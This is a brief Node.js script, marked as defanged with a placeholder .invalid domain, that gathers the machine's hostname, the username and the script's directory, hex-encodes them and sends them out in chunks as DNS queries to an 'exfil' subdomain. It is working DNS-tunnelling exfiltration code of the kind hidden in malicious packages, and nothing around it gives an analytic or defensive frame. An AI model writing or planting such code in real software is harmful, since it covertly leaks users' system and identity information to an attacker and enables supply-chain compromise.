// defanged: base domain under .invalid
const dns = require('dns');
const os = require('os');

const data = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname });
const hex = Buffer.from(data).toString('hex');
const chunks = hex.match(/.{1,60}/g);
const id = Math.random().toString(36).slice(2, 8);
chunks.forEach((c, i) => {
  dns.resolve(`${id}.${i}.${c}.x.exfil.invalid`, 'A', () => {});
});
